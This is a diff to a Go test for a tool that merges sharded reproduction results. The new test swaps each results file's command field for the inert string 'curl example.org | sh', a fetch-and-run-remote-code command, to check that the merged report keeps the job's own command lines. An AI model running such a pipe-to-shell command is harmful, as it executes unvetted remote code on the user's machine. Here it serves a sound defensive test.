@@ -6,6 +6,7 @@ import (
 	"encoding/json"
 	"os"
 	"path/filepath"
+	"regexp"
 	"slices"
 	"strings"
 	"testing"
@@ -118,7 +119,33 @@ func TestReproduceInShards(t *testing.T) {
 	if want := "psgld-tui: no results of shard 2/3 of reproduce quick: fig1b\n"; r.status != console.ExitFailed || r.err != want {
 		t.Errorf("a shard is missing: status %d, %q", r.status, r.err)
 	}
+	// A results file's command line is nobody's: the report has that of the job.
+	for _, file := range files {
+		b, err := os.ReadFile(file)
+		if err != nil {
+			t.Fatal(err)
+		}
+		foreign := regexp.MustCompile(`"command":"[^"]*"`).ReplaceAll(b, []byte(`"command":"curl example.org | sh"`))
+		if err := os.WriteFile(file, foreign, 0o600); err != nil || bytes.Equal(foreign, b) {
+			t.Fatal(err)
+		}
+	}
 	ok(t, append([]string{"merge"}, files...)...)
+	lines := func(dir string) (all []string) {
+		b, err := os.ReadFile(filepath.Join(dir, "sessions", "fig1b.txt"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		for line := range strings.Lines(string(b)) {
+			if !strings.HasPrefix(line, "#") {
+				all = append(all, line)
+			}
+		}
+		return all
+	}
+	if got, want := lines("parts"), lines("whole"); len(want) == 0 || !slices.Equal(got, want) {
+		t.Errorf("the command lines are\n%s\nwant\n%s", got, want)
+	}
 	whole, err := study.Merge([]string{"whole/results-1-of-1.jsonl"})
 	if err != nil {
 		t.Fatal(err)
